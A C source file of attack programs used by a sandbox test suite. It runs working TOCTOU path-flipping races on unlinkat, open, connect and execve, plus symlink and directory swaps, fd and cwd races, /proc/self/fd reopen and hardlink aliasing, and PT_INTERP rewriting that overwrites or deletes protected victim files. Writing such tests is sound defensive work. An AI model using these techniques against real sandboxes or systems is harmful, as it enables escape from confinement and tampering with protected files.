/* Attack programs for tests/attacks/test_toctou_and_paths.py (threat catalog A/B:
 * TOC-01, PATH-01..04). Each mode is one attack; every attempted step prints
 *
 *     step=<name> rc=<return value> errno=<ERRNO name or 0>
 *
 * and race modes print one summary line of key=value counters. The same binary is run
 * natively (the attack must work there) and under the sandbox (it must not).
 *
 *   race-unlink  OK VICTIM ITERS SECONDS thread|fork   flip unlinkat's path buffer
 *   race-open    OK VICTIM ITERS SECONDS thread|fork   flip open(O_WRONLY|O_TRUNC)'s path
 *   race-connect OKSOCK DENIEDSOCK ITERS SECONDS       flip connect's sockaddr_un
 *   race-exec OKPROG DENIEDPROG ITERS SECONDS thread|fork MARKERDIR
 *                                                      flip execve's path; each child execs
 *                                                      itself (a copy) in mode exec-marker
 *   exec-marker MARKERDIR                              as DENIEDPROG: create MARKERDIR/ran-PID
 *   race-argv0 PROG ITERS SECONDS ARGS...              exec PROG with argv[0] flipping between
 *                                                      NULL (an empty argv) and PROG (forked flipper)
 *   race-interp ELF OFFSET NAME_A NAME_B ITERS SECONDS pwrite the ELF's PT_INTERP (at OFFSET)
 *                                                      between two names while exec'ing it
 *   race-argv PROG ARG_A ARG_B ITERS SECONDS thread|fork ARGS...
 *                                                      exec PROG ARGS... with one argument
 *                                                      flipping between ARG_A and ARG_B
 *   symlink-race-open   VICTIM ITERS SECONDS           ./link <-> ./link_alt (RENAME_EXCHANGE)
 *   dirlink-race-unlink VICTIM ITERS SECONDS [CREATE]  ./dirlink <-> ./dirlink_alt; unlink dirlink/victim
 *   cwd-race-unlink   WS OUTSIDE VICTIM ITERS SECONDS  a thread chdir()s between WS and OUTSIDE
 *   dirfd-race-unlink WS OUTSIDE VICTIM ITERS SECONDS  a thread dup2()s either dir onto fd 100
 *   thread-files OUTSIDE WS                            unshare(CLONE_FILES): a private fd 100
 *   dirfd OUTSIDE_DIR OP                               *at() on an O_PATH fd of a foreign dir
 *   thread-cwd OUTSIDE_DIR OP                          a thread with unshare(CLONE_FS) + chdir
 *   path-op OP CWD PATH                                OP on PATH ({pid}/{tid} substituted)
 *   fd-reopen VICTIM rdonly|opath PREFIX wronly-trunc|rdwr
 *   link-write VICTIM ALIAS link|linkat-proc|linkat-empty
 *   rename SRC DST [renameat2-flags]
 *   symlink-write TARGET LINKPATH trunc|creat
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char PAYLOAD[] = "PWNED by the attack\n";

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *ename(int e)
{
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

static long step(const char *name, long r)
{
    int e = errno;
    printf("step=%s rc=%ld errno=%s\n", name, r, r < 0 ? ename(e) : "0");
    fflush(stdout);
    errno = e;
    return r;
}

static void write_payload(const char *name, int fd)
{
    if (fd < 0)
        return;
    step(name, write(fd, PAYLOAD, sizeof PAYLOAD - 1));
    close(fd);
}

static off_t size_of(const char *p)
{
    struct stat st;
    return stat(p, &st) == 0 ? st.st_size : -1;
}

/* ---- path-buffer flipper: a thread, or a forked process sharing a MAP_SHARED page ---- */
struct flip {
    atomic_int stop;
    size_t len;
    char a[4096];
    char b[4096];
    char buf[4096];              /* what the syscall reads */
};

/* Hold each state for a moment so the buffer is mostly one whole path or the other
 * (a flipper preempted in the middle of a copy would leave a torn path for a while). */
static void hold(void)
{
    for (int k = 0; k < 64; k++)
        __builtin_ia32_pause();
}

static void flip_loop(struct flip *f)
{
    while (!atomic_load_explicit(&f->stop, memory_order_relaxed)) {
        memcpy(f->buf, f->a, f->len);
        __asm__ volatile("" ::: "memory");
        hold();
        memcpy(f->buf, f->b, f->len);
        __asm__ volatile("" ::: "memory");
        hold();
    }
}

static void *flip_thread(void *arg)
{
    flip_loop(arg);
    return NULL;
}

struct flipper {
    struct flip *f;
    pthread_t th;
    pid_t child;
};

static struct flip *flip_new(const void *a, const void *b, size_t len)
{
    struct flip *f = mmap(NULL, sizeof *f, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (f == MAP_FAILED) {
        perror("mmap");
        exit(2);
    }
    memset(f, 0, sizeof *f);
    f->len = len;
    memcpy(f->a, a, len);
    memcpy(f->b, b, len);
    memcpy(f->buf, a, len);
    return f;
}

static void flip_start(struct flipper *fl, const char *how)
{
    fl->child = -1;
    if (!strcmp(how, "fork")) {
        pid_t parent = getpid();
        fl->child = fork();
        if (fl->child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != parent)
                _exit(0);
            flip_loop(fl->f);
            _exit(0);
        }
        if (fl->child < 0) {
            perror("fork");
            exit(2);
        }
    } else if (pthread_create(&fl->th, NULL, flip_thread, fl->f) != 0) {
        perror("pthread_create");
        exit(2);
    }
}

static void flip_stop(struct flipper *fl)
{
    atomic_store(&fl->f->stop, 1);
    if (fl->child > 0)
        waitpid(fl->child, NULL, 0);
    else
        pthread_join(fl->th, NULL);
}

/* Two NUL-padded paths of the same buffer length. */
static struct flip *flip_paths(const char *a, const char *b)
{
    char pa[4096] = {0}, pb[4096] = {0};
    size_t la = strlen(a), lb = strlen(b);
    if (la >= sizeof pa || lb >= sizeof pb)
        exit(2);
    memcpy(pa, a, la);
    memcpy(pb, b, lb);
    return flip_new(pa, pb, (la > lb ? la : lb) + 1);
}

/* ---- TOC-01: thread (or shared-memory process) swaps unlinkat's / open's path ---------- */
static int race_path(int argc, char **argv, int do_open)
{
    if (argc < 7)
        return 2;
    const char *ok = argv[2], *victim = argv[3];
    long iters = atol(argv[4]);
    double deadline = now() + atof(argv[5]);
    off_t vsize = size_of(victim);
    struct flipper fl = {.f = flip_paths(ok, victim)};
    long i, done = 0, denied = 0, enoent = 0, other = 0;
    int victim_hit = 0;

    flip_start(&fl, argv[6]);
    for (i = 0; i < iters && now() < deadline; i++) {
        if (do_open) {
            int fd = open(fl.f->buf, O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                if (write(fd, PAYLOAD, sizeof PAYLOAD - 1) < 0)
                    other++;
                close(fd);
                done++;
            } else if (errno == EACCES) denied++;
            else if (errno == ENOENT) enoent++;
            else other++;
            if (size_of(victim) != vsize) { victim_hit = 1; i++; break; }
        } else {
            int fd = open(ok, O_WRONLY | O_CREAT, 0644);
            if (fd >= 0)
                close(fd);
            long r = syscall(SYS_unlinkat, AT_FDCWD, fl.f->buf, 0);
            if (r == 0) done++;
            else if (errno == EACCES) denied++;
            else if (errno == ENOENT) enoent++;
            else other++;
            if (access(victim, F_OK) != 0) { victim_hit = 1; i++; break; }
        }
    }
    flip_stop(&fl);
    printf("race iterations=%ld done=%ld denied=%ld enoent=%ld other=%ld victim_hit=%d\n",
           i, done, denied, enoent, other, victim_hit);
    return 0;
}

/* ---- TOC-01 on connect: the sockaddr flips between an allowed and a denied socket ------ */
static atomic_long ok_accepts;

static void *accept_loop(void *arg)
{
    int srv = (int)(intptr_t)arg;
    for (;;) {
        int c = accept(srv, NULL, NULL);
        if (c < 0) {
            if (errno == EINTR)
                continue;
            return NULL;
        }
        atomic_fetch_add(&ok_accepts, 1);
        close(c);
    }
}

static int race_connect(int argc, char **argv)
{
    if (argc < 6)
        return 2;
    const char *okp = argv[2], *deniedp = argv[3];
    long iters = atol(argv[4]);
    double deadline = now() + atof(argv[5]);
    struct sockaddr_un a = {.sun_family = AF_UNIX}, b = {.sun_family = AF_UNIX};
    if (strlen(okp) >= sizeof a.sun_path || strlen(deniedp) >= sizeof b.sun_path)
        return 2;
    strcpy(a.sun_path, okp);
    strcpy(b.sun_path, deniedp);

    unlink(okp);
    int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (step("bind-ok-server", bind(srv, (struct sockaddr *)&a, sizeof a)) < 0)
        return 3;
    if (step("listen", listen(srv, 1024)) < 0)
        return 3;
    pthread_t acc;
    pthread_create(&acc, NULL, accept_loop, (void *)(intptr_t)srv);

    struct flipper fl = {.f = flip_new(&a, &b, sizeof a)};
    long i, connected = 0, denied = 0, other = 0, reached_denied = 0;
    flip_start(&fl, "thread");
    for (i = 0; i < iters && now() < deadline; i++) {
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (connect(s, (struct sockaddr *)fl.f->buf, sizeof a) == 0) {
            struct sockaddr_un peer;
            socklen_t pl = sizeof peer;
            connected++;
            memset(&peer, 0, sizeof peer);
            if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
                strstr(peer.sun_path, "denied") != NULL)
                reached_denied++;
        } else if (errno == EPERM || errno == EACCES) denied++;
        else other++;
        close(s);
        if (reached_denied) { i++; break; }
    }
    flip_stop(&fl);
    printf("race iterations=%ld connected=%ld denied=%ld other=%ld reached_denied=%ld "
           "ok_accepts=%ld\n", i, connected, denied, other, reached_denied,
           atomic_load(&ok_accepts));
    return 0;
}

/* ---- PATH-01: swap a symlink (or a directory symlink) with RENAME_EXCHANGE ------------- */
struct xchg {
    atomic_int stop;
    const char *a, *b;
    long swaps;
};

static void *xchg_loop(void *arg)
{
    struct xchg *x = arg;
    while (!atomic_load(&x->stop))
        if (syscall(SYS_renameat2, AT_FDCWD, x->a, AT_FDCWD, x->b, RENAME_EXCHANGE) == 0)
            x->swaps++;
    return NULL;
}

static int symlink_race(int argc, char **argv, int dir)
{
    if (argc < 5)
        return 2;
    const char *victim = argv[2];
    long iters = atol(argv[3]);
    double deadline = now() + atof(argv[4]);
    const char *create = argc > 5 ? argv[5] : "d/victim";
    off_t vsize = size_of(victim);
    struct xchg x = {.a = dir ? "dirlink" : "link", .b = dir ? "dirlink_alt" : "link_alt"};
    pthread_t th;
    long i, done = 0, denied = 0, other = 0;
    int victim_hit = 0;

    pthread_create(&th, NULL, xchg_loop, &x);
    for (i = 0; i < iters && now() < deadline; i++) {
        if (dir) {
            int fd = open(create, O_WRONLY | O_CREAT, 0644);
            if (fd >= 0)
                close(fd);
            if (unlink("dirlink/victim") == 0) done++;
            else if (errno == EACCES) denied++;
            else other++;
            if (access(victim, F_OK) != 0) { victim_hit = 1; i++; break; }
        } else {
            int fd = open("link", O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                if (write(fd, PAYLOAD, sizeof PAYLOAD - 1) < 0)
                    other++;
                close(fd);
                done++;
            } else if (errno == EACCES) denied++;
            else other++;
            if (size_of(victim) != vsize) { victim_hit = 1; i++; break; }
        }
    }
    atomic_store(&x.stop, 1);
    pthread_join(th, NULL);
    printf("race iterations=%ld done=%ld denied=%ld other=%ld swaps=%ld victim_hit=%d\n",
           i, done, denied, other, x.swaps, victim_hit);
    return 0;
}

/* ---- PATH-02 races: another thread changes the cwd (chdir) or the dirfd (dup2) -------- */
struct fsflip {
    atomic_int stop;
    int cwd;                     /* 1: chdir flipper, 0: dup2 flipper */
    const char *ws, *outside;
    int wsfd, outfd, slot;
    long flips;
};

static void *fsflip_loop(void *arg)
{
    struct fsflip *x = arg;
    while (!atomic_load(&x->stop)) {
        if (x->cwd) {
            if (chdir(x->ws) == 0 && chdir(x->outside) == 0)
                x->flips++;
        } else if (dup2(x->wsfd, x->slot) >= 0 && dup2(x->outfd, x->slot) >= 0)
            x->flips++;
    }
    return NULL;
}

/* Decoy WS/victim is recreated every round; the relative "victim" must only ever
 * reach it, never OUTSIDE/victim. */
static int fs_race(int argc, char **argv, int cwd)
{
    if (argc < 7)
        return 2;
    struct fsflip x = {.cwd = cwd, .ws = argv[2], .outside = argv[3], .slot = 100};
    const char *victim = argv[4];
    long iters = atol(argv[5]);
    double deadline = now() + atof(argv[6]);
    char decoy[4096];
    snprintf(decoy, sizeof decoy, "%s/victim", x.ws);
    x.wsfd = open(x.ws, O_PATH | O_DIRECTORY);
    x.outfd = open(x.outside, O_PATH | O_DIRECTORY);
    if (x.wsfd < 0 || x.outfd < 0 || dup2(x.wsfd, x.slot) < 0)
        return 3;
    pthread_t th;
    long i, done = 0, denied = 0, other = 0;
    int victim_hit = 0;
    pthread_create(&th, NULL, fsflip_loop, &x);
    for (i = 0; i < iters && now() < deadline; i++) {
        int fd = open(decoy, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0)
            close(fd);
        long r = cwd ? unlink("victim") : syscall(SYS_unlinkat, x.slot, "victim", 0);
        if (r == 0) done++;
        else if (errno == EACCES) denied++;
        else other++;
        if (access(victim, F_OK) != 0) { victim_hit = 1; i++; break; }
    }
    atomic_store(&x.stop, 1);
    pthread_join(th, NULL);
    printf("race iterations=%ld done=%ld denied=%ld other=%ld swaps=%ld victim_hit=%d\n",
           i, done, denied, other, x.flips, victim_hit);
    return 0;
}

/* ---- PATH-02: a thread with its own fd table: its fd 100 is not the leader's fd 100 ---- */
static void *tfiles_thread(void *arg)
{
    const char *outside = arg;
    if (step("unshare-files", unshare(CLONE_FILES)) < 0)
        return NULL;
    int fd = open(outside, O_PATH | O_DIRECTORY);
    if (step("thread-dup2", dup2(fd, 100)) < 0)
        return NULL;
    step("unlinkat", syscall(SYS_unlinkat, 100, "victim", 0));
    return NULL;
}

static int thread_files(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    int wsfd = open(argv[3], O_PATH | O_DIRECTORY);   /* the leader's fd 100: the workspace */
    if (step("leader-dup2", dup2(wsfd, 100)) < 0)
        return 3;
    pthread_t th;
    pthread_create(&th, NULL, tfiles_thread, argv[2]);
    pthread_join(th, NULL);
    return 0;
}

/* ---- PATH-02: dirfd of a directory outside the workspace, and the 32-bit AT_FDCWD ------ */
static int dirfd_attack(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    const char *dir = argv[2], *op = argv[3];
    int dfd = open(dir, O_PATH | O_DIRECTORY);
    if (step("open-dirfd", dfd) < 0)
        return 3;
    const unsigned long fdcwd32 = 0x00000000FFFFFF9CUL;        /* AT_FDCWD, not sign-extended */
    const unsigned long junk_fd = 0xdead00000000UL | (unsigned)dfd; /* upper half ignored */

    if (!strcmp(op, "unlinkat"))
        step(op, syscall(SYS_unlinkat, dfd, "victim", 0));
    else if (!strcmp(op, "openat-trunc"))
        write_payload("write", step(op, syscall(SYS_openat, dfd, "victim", O_WRONLY | O_TRUNC)));
    else if (!strcmp(op, "renameat"))
        step(op, syscall(SYS_renameat, dfd, "victim", dfd, "renamed"));
    else if (!strcmp(op, "renameat-into-workspace"))
        step(op, syscall(SYS_renameat, dfd, "victim", AT_FDCWD, "stolen"));
    else if (!strcmp(op, "renameat-over")) /* workspace file "evil" over dirfd/victim */
        step(op, syscall(SYS_renameat, AT_FDCWD, "evil", dfd, "victim"));
    else if (!strcmp(op, "fdcwd32-unlinkat")) {
        if (step("chdir", chdir(dir)) < 0)
            return 3;
        step(op, syscall(SYS_unlinkat, fdcwd32, "victim", 0));
    } else if (!strcmp(op, "fdcwd32-openat-trunc")) {
        if (step("chdir", chdir(dir)) < 0)
            return 3;
        write_payload("write", step(op, syscall(SYS_openat, fdcwd32, "victim", O_WRONLY | O_TRUNC)));
    } else if (!strcmp(op, "junkfd-unlinkat"))
        step(op, syscall(SYS_unlinkat, junk_fd, "victim", 0));
    else
        return 2;
    return 0;
}

/* ---- PATH-02: a thread with its own fs struct (unshare(CLONE_FS)) and cwd -------------- */
struct tcwd {
    const char *dir, *op;
};

static void *tcwd_thread(void *arg)
{
    struct tcwd *t = arg;
    if (step("unshare-fs", unshare(CLONE_FS)) < 0)
        return NULL;
    if (step("thread-chdir", chdir(t->dir)) < 0)
        return NULL;
    if (!strcmp(t->op, "unlink"))
        step(t->op, unlink("victim"));
    else if (!strcmp(t->op, "open-trunc"))
        write_payload("write", step(t->op, open("victim", O_WRONLY | O_TRUNC)));
    else if (!strcmp(t->op, "rename"))
        step(t->op, rename("victim", "renamed"));
    return NULL;
}

static int thread_cwd(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    struct tcwd t = {argv[2], argv[3]};
    pthread_t th;
    pthread_create(&th, NULL, tcwd_thread, &t);
    pthread_join(th, NULL);
    char cwd[4096];
    if (getcwd(cwd, sizeof cwd))
        printf("main-cwd=%s\n", cwd);
    return 0;
}

/* ---- generic: OP on PATH, with {pid} and {tid} replaced by this process's ids ---------- */
static void subst(char *out, size_t n, const char *in)
{
    char pid[32], tid[32];
    snprintf(pid, sizeof pid, "%d", (int)getpid());
    snprintf(tid, sizeof tid, "%d", (int)gettid());
    size_t o = 0;
    while (*in && o + 32 < n) {
        if (!strncmp(in, "{pid}", 5)) { o += snprintf(out + o, n - o, "%s", pid); in += 5; }
        else if (!strncmp(in, "{tid}", 5)) { o += snprintf(out + o, n - o, "%s", tid); in += 5; }
        else out[o++] = *in++;
    }
    out[o] = 0;
}

static int path_op(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    const char *op = argv[2];
    char path[4096];
    if (step("chdir", chdir(argv[3])) < 0)
        return 3;
    subst(path, sizeof path, argv[4]);
    printf("path=%s\n", path);
    if (!strcmp(op, "unlink"))
        step(op, unlink(path));
    else if (!strcmp(op, "open-trunc"))
        write_payload("write", step(op, open(path, O_WRONLY | O_TRUNC)));
    else if (!strcmp(op, "truncate"))
        step(op, truncate(path, 0));
    else if (!strcmp(op, "rename-away"))
        step(op, rename(path, "stolen"));
    else if (!strcmp(op, "create"))
        write_payload("write", step(op, open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
    else if (!strcmp(op, "mkdir"))
        step(op, mkdir(path, 0755));
    else if (!strcmp(op, "mkfifo"))
        step(op, mknod(path, S_IFIFO | 0644, 0));
    else if (!strcmp(op, "symlink"))
        step(op, symlink("/etc/hostname", path));
    else if (!strcmp(op, "symlink-to-newhooks"))     /* PATH at CWD -> ../newhooks */
        step(op, symlink("../newhooks", path));
    else if (!strcmp(op, "link-evil"))
        step(op, link("evil", path));
    else if (!strcmp(op, "bind") || !strcmp(op, "connect")) {
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        if (strlen(path) >= sizeof a.sun_path)
            return 2;
        strcpy(a.sun_path, path);
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (!strcmp(op, "bind"))
            step(op, bind(s, (struct sockaddr *)&a, sizeof a));
        else
            step(op, connect(s, (struct sockaddr *)&a, sizeof a));
        close(s);
    } else
        return 2;
    return 0;
}

/* ---- PATH-03: reopen a read-only / O_PATH fd for writing through a magic link ---------- */
static int fd_reopen(int argc, char **argv)
{
    if (argc < 6)
        return 2;
    const char *victim = argv[2], *how = argv[3], *prefix = argv[4], *mode = argv[5];
    int fd = open(victim, !strcmp(how, "opath") ? O_PATH : O_RDONLY);
    if (step("open-victim", fd) < 0)
        return 3;
    char tmpl[4096], path[4096];
    snprintf(tmpl, sizeof tmpl, "%s%d", prefix, fd);
    subst(path, sizeof path, tmpl);
    printf("path=%s\n", path);
    int flags = !strcmp(mode, "rdwr") ? O_RDWR : O_WRONLY | O_TRUNC;
    write_payload("write", step("reopen", open(path, flags)));
    return 0;
}

/* ---- PATH-04: hardlink a protected file into the workspace, write through the alias ---- */
static int link_write(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    const char *victim = argv[2], *alias = argv[3], *how = argv[4];
    if (!strcmp(how, "link"))
        step("link", link(victim, alias));
    else {
        int fd = open(victim, O_RDONLY);
        if (step("open-victim", fd) < 0)
            return 3;
        if (!strcmp(how, "linkat-proc")) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            step("linkat", linkat(AT_FDCWD, p, AT_FDCWD, alias, AT_SYMLINK_FOLLOW));
        } else
            step("linkat", linkat(fd, "", AT_FDCWD, alias, AT_EMPTY_PATH));
    }
    write_payload("write", step("open-alias", open(alias, O_WRONLY | O_TRUNC)));
    return 0;
}

static int do_rename(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    unsigned flags = argc > 4 ? (unsigned)strtoul(argv[4], NULL, 0) : 0;
    if (argc > 4)
        step("renameat2", syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], flags));
    else
        step("rename", rename(argv[2], argv[3]));
    return 0;
}

static int symlink_write(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    step("symlink", symlink(argv[2], argv[3]));
    int flags = !strcmp(argv[4], "creat") ? O_WRONLY | O_CREAT : O_WRONLY | O_TRUNC;
    write_payload("write", step("open-link", open(argv[3], flags, 0644)));
    return 0;
}

/* ---- TOC-01 on execve: the path (or one argument) flips while the exec is decided ------ */
static int exec_marker(int argc, char **argv)
{
    /* Run as the denied copy: leave a mark (any run at all is the attack succeeding). */
    if (argc < 3)
        return 2;
    char self[4096], mark[4200];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0)
        return 3;
    self[n] = '\0';
    const char *base = strrchr(self, '/');
    if (strstr(base ? base : self, "denied")) {
        snprintf(mark, sizeof mark, "%s/ran-%d", argv[2], (int)getpid());
        int fd = open(mark, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0)
            close(fd);
    }
    return 0;
}

/* How the exec'ing children of a race ended: killed (in its exec stop), refused (exit
 * 126) or ran; printed as the race summary. */
struct tally { long iterations, ran, refused, killed; };

/* Fork up to ITERS children, each exec'ing *path (read at exec time: it may point into a
 * flipping buffer) with argv; quiet: their stdout/stderr to /dev/null. */
static struct tally exec_loop(long iters, double deadline, char *const *path, char *const *argv,
                              int quiet)
{
    struct tally t = {0};
    for (t.iterations = 0; t.iterations < iters && now() < deadline; t.iterations++) {
        pid_t pid = fork();
        if (pid == 0) {
            extern char **environ;
            if (quiet) {
                int null = open("/dev/null", O_WRONLY);
                dup2(null, 1);
                dup2(null, 2);
            }
            execve(*path, argv, environ);
            _exit(errno == EPERM || errno == EACCES ? 126 : 127);
        }
        if (pid < 0)
            break;
        int st;
        if (waitpid(pid, &st, 0) < 0)
            break;
        if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
            t.killed++;
        else if (WIFEXITED(st) && WEXITSTATUS(st) == 126)
            t.refused++;
        else
            t.ran++;
    }
    return t;
}

static void print_tally(struct tally t)
{
    printf("race iterations=%ld ran=%ld refused=%ld killed=%ld\n", t.iterations, t.ran,
           t.refused, t.killed);
}

/* The same while a flipper (thread or forked process) flips the buffer. */
static void exec_children(struct flipper *fl, const char *how, long iters, double deadline,
                          char **child_argv, int path_flips)
{
    char *path = path_flips ? fl->f->buf : child_argv[0];
    flip_start(fl, how);
    struct tally t = exec_loop(iters, deadline, &path, child_argv, 0);
    flip_stop(fl);
    print_tally(t);
}

static int race_exec(int argc, char **argv)
{
    if (argc < 8)
        return 2;
    long iters = atol(argv[4]);
    double deadline = now() + atof(argv[5]);
    struct flipper fl = {.f = flip_paths(argv[2], argv[3])};
    char *child_argv[] = {fl.f->buf, "exec-marker", argv[7], NULL};
    exec_children(&fl, argv[6], iters, deadline, child_argv, 1);
    return 0;
}

static int race_argv(int argc, char **argv)
{
    if (argc < 8)
        return 2;
    long iters = atol(argv[5]);
    double deadline = now() + atof(argv[6]);
    struct flipper fl = {.f = flip_paths(argv[3], argv[4])};
    /* PROG ARGS..., the first ARGS word that equals ARG_A read from the flipping buffer */
    char *child_argv[64];
    int k = 0, flipped = 0;
    child_argv[k++] = argv[2];
    for (int j = 8; j < argc && k < 62; j++) {
        if (!flipped && !strcmp(argv[j], argv[3])) {
            child_argv[k++] = fl.f->buf;
            flipped = 1;
        } else {
            child_argv[k++] = argv[j];
        }
    }
    child_argv[k] = NULL;
    if (!flipped)
        return 2;
    exec_children(&fl, argv[7], iters, deadline, child_argv, 0);
    return 0;
}

/* argv[0] flips between NULL (argc 0: "nothing to classify") and the program's name. */
static int race_argv0(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    long iters = atol(argv[3]);
    double deadline = now() + atof(argv[4]);
    struct shared { atomic_int stop; char *av[64]; } *sh =
        mmap(NULL, sizeof *sh, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (sh == MAP_FAILED)
        return 2;
    int k = 1;
    for (int j = 5; j < argc && k < 63; j++)
        sh->av[k++] = argv[j];
    sh->av[k] = NULL;
    sh->av[0] = NULL;
    pid_t flipper = fork();
    if (flipper == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        while (!atomic_load(&sh->stop)) {
            sh->av[0] = argv[2];
            hold();
            sh->av[0] = NULL;
            hold();
        }
        _exit(0);
    }
    char *path = argv[2];
    struct tally t = exec_loop(iters, deadline, &path, sh->av, 1);
    atomic_store(&sh->stop, 1);
    waitpid(flipper, NULL, 0);
    print_tally(t);
    return 0;
}

/* The ELF's PT_INTERP bytes flip between two loader names (a forked writer) while it is
 * exec'd: the decision reads one, the kernel may load the other. */
static int race_interp(int argc, char **argv)
{
    if (argc < 8)
        return 2;
    const char *elf = argv[2], *a = argv[4], *b = argv[5];
    off_t off = atol(argv[3]);
    long iters = atol(argv[6]);
    double deadline = now() + atof(argv[7]);
    size_t n = strlen(a);
    if (strlen(b) != n)
        return 2;
    atomic_int *stop = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (stop == MAP_FAILED)
        return 2;
    pid_t writer = fork();
    if (writer == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (int w = 0; !atomic_load(stop); w ^= 1) {
            int fd = open(elf, O_WRONLY);
            if (fd >= 0) {
                if (pwrite(fd, w ? b : a, n, off) < 0) { /* (busy: ETXTBSY while it runs) */ }
                close(fd);
            }
            for (int k = 0; k < 3000; k++)
                __builtin_ia32_pause();
        }
        _exit(0);
    }
    char *path = (char *)elf, *av[] = {(char *)elf, NULL};
    struct tally t = exec_loop(iters, deadline, &path, av, 0);
    atomic_store(stop, 1);
    waitpid(writer, NULL, 0);
    print_tally(t);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2)
        return 2;
    const char *m = argv[1];
    if (!strcmp(m, "race-unlink")) return race_path(argc, argv, 0);
    if (!strcmp(m, "race-open")) return race_path(argc, argv, 1);
    if (!strcmp(m, "race-connect")) return race_connect(argc, argv);
    if (!strcmp(m, "race-exec")) return race_exec(argc, argv);
    if (!strcmp(m, "race-argv")) return race_argv(argc, argv);
    if (!strcmp(m, "exec-marker")) return exec_marker(argc, argv);
    if (!strcmp(m, "race-argv0")) return race_argv0(argc, argv);
    if (!strcmp(m, "race-interp")) return race_interp(argc, argv);
    if (!strcmp(m, "symlink-race-open")) return symlink_race(argc, argv, 0);
    if (!strcmp(m, "dirlink-race-unlink")) return symlink_race(argc, argv, 1);
    if (!strcmp(m, "dirfd")) return dirfd_attack(argc, argv);
    if (!strcmp(m, "cwd-race-unlink")) return fs_race(argc, argv, 1);
    if (!strcmp(m, "dirfd-race-unlink")) return fs_race(argc, argv, 0);
    if (!strcmp(m, "thread-files")) return thread_files(argc, argv);
    if (!strcmp(m, "thread-cwd")) return thread_cwd(argc, argv);
    if (!strcmp(m, "path-op")) return path_op(argc, argv);
    if (!strcmp(m, "fd-reopen")) return fd_reopen(argc, argv);
    if (!strcmp(m, "link-write")) return link_write(argc, argv);
    if (!strcmp(m, "rename")) return do_rename(argc, argv);
    if (!strcmp(m, "symlink-write")) return symlink_write(argc, argv);
    fprintf(stderr, "unknown mode %s\n", m);
    return 2;
}
